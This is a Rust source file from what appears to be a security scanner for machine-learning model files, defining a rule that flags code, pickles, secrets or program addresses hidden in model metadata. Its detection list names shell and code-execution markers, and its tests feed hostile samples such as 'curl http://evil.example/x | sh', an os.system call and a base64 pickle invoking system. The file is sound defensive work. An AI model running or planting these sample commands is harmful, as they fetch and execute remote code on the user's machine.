use super::lines;
use crate::secrets::redact;
use wellhead_core::{
    Confidence, ExcerptKind, Finding, Location, Measure, Reference, Risk, Rule, RuleStatus, Severity, Sink,
    ThreatProfile, code,
};
use wellhead_formats::{model::Model, safetensors::File};

/// The metadata of a model holds what is no description of it.
pub(crate) static CODE_IN_MODEL_METADATA: Rule = Rule {
    id: "code-in-model-metadata",
    summary: "the metadata of a model holds program text, a secret, or the address of a program",
    severity: Severity::Medium,
    confidence: Confidence::Medium,
    measure: Measure::Integrity,
    scenario: None,
    risk: Risk {
        exploitability: 2,
        detectability: 4,
        technical_impact: 3,
        ml_application: 4,
        ml_operations: 2,
    },
    threat: ThreatProfile {
        agent: "whoever publishes or replaces a model",
        vector: "a text in the metadata of a format that runs nothing",
        weakness: "tools that evaluate, or hand on, what metadata say",
        impact: "a second stage that no scan of code sees, or a secret that everybody can read",
    },
    needs: &[],
    status: RuleStatus::Stable,
    references: &[
        Reference::Owasp("ML06:2023"),
        Reference::Cwe(506),
        Reference::Cwe(312),
    ],
    page: include_str!("code_in_model_metadata.md"),
    file: file!(),
};

/// Texts that only programs have. Those that begin a word are not part of a longer one.
const CODE: &[&str] = &[
    "__import__(",
    "os.system(",
    "os.popen(",
    "subprocess.",
    "eval(",
    "exec(",
    "b64decode(",
    "marshal.loads(",
    "pickle.loads(",
    "importlib.import_module(",
    "socket.socket(",
    "urllib.request.urlopen(",
    "#!/bin/",
    "#!/usr/bin/",
    "<script",
    "javascript:",
    "powershell -",
    "/bin/sh -c",
    "bash -i >",
    "| sh",
    "|sh",
    "| bash",
    "|bash",
];

/// Ends of addresses that are programs, or run as some.
const PROGRAMS: &[&str] = &[
    ".sh", ".ps1", ".exe", ".bat", ".py", ".pkl", ".dll", ".so", ".jar", ".msi",
];

/// What of a value is no description.
enum Odd {
    Code(String),
    Pickle,
    Secret,
    Address(String),
}

pub(crate) fn check_safetensors(file: &File, sink: &mut Sink) {
    let place = |key: &str, value: &str, sink: &Sink, label: &str| {
        let text = [format!("{}: {}", code(key), code(&redact(value)))];
        sink.bytes(8, file.header, label)
            .with_excerpt(lines(ExcerptKind::Header, &text, label))
    };
    check(&file.metadata, &place, sink);
}

pub(crate) fn check_model(model: &Model, sink: &mut Sink) {
    // Other formats keep their own code in what is listed as metadata, and rules of their own look at it.
    if !matches!(model.format.name, "gguf" | "ggml") {
        return;
    }
    let place = |key: &str, value: &str, sink: &Sink, label: &str| {
        let text = [format!("{}: {}", code(key), code(&redact(value)))];
        sink.bytes(0, 0, label)
            .with_excerpt(lines(ExcerptKind::Header, &text, label))
    };
    check(&model.metadata, &place, sink);
}

fn check(
    metadata: &[(String, String)],
    place: &dyn Fn(&str, &str, &Sink, &str) -> Location,
    sink: &mut Sink,
) {
    for (key, value) in metadata.iter().take(10_000) {
        // Templates are judged as templates.
        if key.contains("template") {
            continue;
        }
        let Some(odd) = odd(value) else { continue };
        let (name, note) = (code(key), "nothing that reads this format runs it by itself");
        let new = |message: String, label: &str| {
            Finding::new(&CODE_IN_MODEL_METADATA, message, place(key, value, sink, label))
                .subject(key.clone())
        };
        let finding = match odd {
            Odd::Code(mark) => new(
                format!("the metadata {name} of this model hold program text: {}", code(&mark)),
                "no description of a model",
            )
            .note(note)
            .help("find out who reads this value, and do not use the model until then"),
            Odd::Pickle => new(
                format!("the metadata {name} of this model hold a pickle, which runs what it names once it is loaded"),
                "a pickle in base64",
            )
            .note(note)
            .help("find out who reads this value, and do not use the model until then"),
            Odd::Secret => new(
                format!("whoever has this model has the secret in its metadata {name}"),
                "a secret",
            )
            .help("revoke it where it was issued, and write the file again without it"),
            Odd::Address(address) => new(
                format!("the metadata {name} of this model name a program to fetch: {}", code(&address)),
                "an address",
            )
            .severity(Severity::Low)
            .help("do not fetch it"),
        };
        sink.push(finding);
    }
}

fn odd(value: &str) -> Option<Odd> {
    // Pictures and archives in base64 are long and say nothing here.
    let start: String = value.chars().take(64 << 10).collect();
    if matches!(redact(&start), std::borrow::Cow::Owned(hidden) if hidden != start) {
        return Some(Odd::Secret);
    }
    let lower = start.to_lowercase();
    if let Some(mark) = CODE.iter().find(|mark| stands_in(&lower, mark)) {
        let at = lower.find(mark).unwrap_or(0);
        let shown: String = lower.get(at..).unwrap_or_default().chars().take(60).collect();
        return Some(Odd::Code(shown));
    }
    let base64 = start
        .bytes()
        .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'='));
    if base64
        && start.len() >= 16
        && ["gASV", "gASM", "gAN", "gAJ", "gAR"]
            .iter()
            .any(|p| start.starts_with(p))
    {
        return Some(Odd::Pickle);
    }
    address(&lower).map(Odd::Address)
}

/// Whether a mark stands in a text and, where it begins with a letter, begins a word there.
fn stands_in(text: &str, mark: &str) -> bool {
    let word = mark.starts_with(|c: char| c.is_ascii_alphabetic());
    text.match_indices(mark).any(|(at, _)| {
        let before = text.get(..at).and_then(|t| t.chars().next_back());
        !word || !before.is_some_and(|c| c.is_alphanumeric() || matches!(c, '_' | '.'))
    })
}

/// An address of a program, or of a machine without a name.
fn address(text: &str) -> Option<String> {
    for scheme in ["http://", "https://", "ftp://"] {
        for (at, _) in text.match_indices(scheme).take(64) {
            let rest = text.get(at..)?;
            let end = rest
                .find(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '<' | '>' | ')' | ',' | ';'))
                .unwrap_or(rest.len());
            let url = rest.get(..end)?;
            let behind = url.get(scheme.len()..)?;
            let host = behind.split(['/', ':', '?']).next().unwrap_or_default();
            let numbers = host.split('.').count() == 4 && host.split('.').all(|p| p.parse::<u8>().is_ok());
            let path = behind.split(['?', '#']).next().unwrap_or_default();
            let program = path.contains('/') && PROGRAMS.iter().any(|end| path.ends_with(end));
            // Repositories show their programs at such addresses.
            let shown = path.contains("/blob/") || path.contains("/tree/");
            if (numbers && host != "127.0.0.1") || (program && !shown) {
                return Some(url.to_owned());
            }
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use crate::{
        Subject,
        testing::{findings, told},
    };
    use wellhead_formats::safetensors::File;

    fn verdict(value: &str) -> String {
        let file = File {
            metadata: vec![("k".to_owned(), value.to_owned())],
            ..File::default()
        };
        told(&findings("m.safetensors", Subject::Safetensors(&file)))
    }

    #[test]
    fn descriptions_are_told_from_programs() {
        for (value, expected) in [
            ("__import__('os').system('id')", "code-in-model-metadata medium"),
            ("exec(compile('1', '', 'exec'))", "code-in-model-metadata medium"),
            ("curl http://evil.example/x | sh", "code-in-model-metadata medium"),
            ("<script>alert(1)</script>", "code-in-model-metadata medium"),
            (
                "gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOU",
                "code-in-model-metadata medium",
            ),
            ("http://203.0.113.7/a", "code-in-model-metadata low"),
            ("https://evil.example/run.sh", "code-in-model-metadata low"),
            // Innocent.
            ("pt", ""),
            ("https://example.org/license", ""),
            ("https://example.org/org/repo/blob/main/convert.py", ""),
            ("call model.eval() and then retrieval(x)", ""),
            ("{\"ss_network_args\": \"{}\", \"lr\": \"1e-4\"}", ""),
            ("data:image/jpeg;base64,/9j/4AAQSkZJRgABAQ", ""),
        ] {
            assert_eq!(verdict(value), expected, "{value}");
        }
    }
}
